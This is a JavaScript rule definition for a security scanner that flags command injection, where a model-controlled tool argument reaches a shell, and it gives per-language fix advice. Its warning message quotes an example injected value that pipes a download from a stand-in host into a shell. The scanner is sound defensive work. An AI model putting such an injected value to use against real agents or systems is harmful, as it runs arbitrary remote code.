import { defineSinkRule } from './sink-rule.js';

export default defineSinkRule({
  id: 'tool-input/command-injection',
  sinkKind: 'command',
  severity: 'error',
  description:
    'A model-controlled tool argument reaches a shell command string or chooses the program to run (os.system, subprocess with shell=True or a string, child_process.exec, spawn with shell: true, execa with shell, zx $).',
  fix: 'Run a fixed program with an argv array and no shell, pick the command from an allowlist, or quote with shlex.quote.',
  languageFixes: {
    python:
      'Run a fixed program with an argument list and no shell (subprocess.run([...]) without shell=True), pick the command from an allowlist, or quote with shlex.quote.',
    javascript: 'Run a fixed program with an argument array and no shell (execFile / spawn without shell: true), or pick the command from an allowlist.',
  },
  messages: {
    flow: 'Tool "{{tool}}" passes model-controlled parameter "{{param}}" to {{sink}}: a value such as "x; curl evil.sh | sh" runs any command as the agent.',
  },
  cwe: [78],
  securitySeverity: 9.8,
  precision: 'high',
});
